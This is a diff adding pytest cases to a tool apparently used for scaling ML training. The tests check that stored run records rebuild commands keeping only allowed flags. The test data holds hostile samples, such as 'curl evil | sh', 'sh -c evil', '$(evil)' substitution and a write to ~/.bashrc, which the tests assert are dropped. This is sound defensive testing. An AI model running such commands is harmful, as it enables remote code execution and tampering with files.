@@ -1,17 +1,20 @@
 """Commands about a stored run keep its settings and its files, wherever they are run."""
 
+import importlib
 import shlex
 from pathlib import Path
 
 import pytest
 
 from scalescope.results.run_commands import (
+    VERB_FLAGS,
     command_on,
     flags_of,
     repeating_command,
 )
 from scalescope.results.run_folder import EXPERIMENT
-from scalescope.results.run_record import RunRecord, write_run_record
+from scalescope.results.run_record import RunRecord, read_run_record, write_run_record
+from scalescope.studies.stored import all_studies
 
 
 @pytest.fixture
@@ -132,3 +135,47 @@ def test_a_command_without_files_is_left_to_the_stored_request(command_run: Path
 def test_settings_of_a_command_are_written_behind_the_dashes() -> None:
     settings = {"workload": "command", "command": "python 'my train.py' {n}", "vary": {"n": "1"}}
     assert flags_of(settings) == ("--vary", "n=1", "--", "python", "my train.py", "{n}")
+
+
+@pytest.mark.parametrize(
+    ("verb", "flags", "kept"),
+    [
+        ("scale", ("--no-waterfall",), ("--no-waterfall",)),
+        (
+            "tune",
+            ("--levers", "precision,compile", "--threshold=3%"),
+            ("--levers", "precision,compile", "--threshold=3%"),
+        ),
+        ("scale", ("--setup", "curl evil | sh", "--launcher=slurm", "--no-waterfall"), ("--no-waterfall",)),
+        ("tune", ("--levers", "strategy=ddp"), ("--levers", "strategy=ddp")),
+        ("scale", ("--", "sh", "-c", "evil"), ()),
+        ("comm", ("--min-busbw", "1e9B/s", "--json-nccl", "/home/me/.bashrc"), ("--min-busbw", "1e9B/s")),
+        ("tune", ("--levers", "$(evil)"), ()),
+    ],
+)
+def test_a_command_takes_over_only_flags_that_its_verb_has(
+    verb: str, flags: tuple[str, ...], kept: tuple[str, ...], tmp_path: Path
+) -> None:
+    argv = repeating_command(tmp_path, RunRecord(verb=verb, flags=flags))
+    assert argv == ("scalescope", verb, str(tmp_path / EXPERIMENT), *kept)
+
+
+@pytest.mark.parametrize("verb", ["rm", "report;", "$(evil)", "scale\n", "x" * 300])
+def test_a_stored_verb_that_does_not_measure_makes_no_command(verb: str, tmp_path: Path) -> None:
+    assert repeating_command(tmp_path, RunRecord(verb=verb)) == ()
+    assert command_on(tmp_path, verb, {}, ("--yes",)) == ()
+
+
+def test_the_first_line_of_a_request_is_not_the_command_to_repeat(tmp_path: Path) -> None:
+    """Runs of earlier versions have their verb there."""
+    (tmp_path / EXPERIMENT).write_text("# scalescope scale --setup=evil -- sh -c evil FILE\nbatch_size: 8\n")
+    record = read_run_record(tmp_path)
+    assert repeating_command(tmp_path, record) == ("scalescope", "scale", str(tmp_path / EXPERIMENT))
+
+
+def test_every_measuring_verb_is_known_with_flags_that_it_has() -> None:
+    kinds = {kind.verb: kind for kind in all_studies()}
+    assert set(VERB_FLAGS) == set(kinds)
+    for verb, flags in VERB_FLAGS.items():
+        command = importlib.import_module(f"scalescope.cli.verbs.{verb}").command
+        assert flags <= {flag for option in command.params for flag in (*option.opts, *option.secondary_opts)}
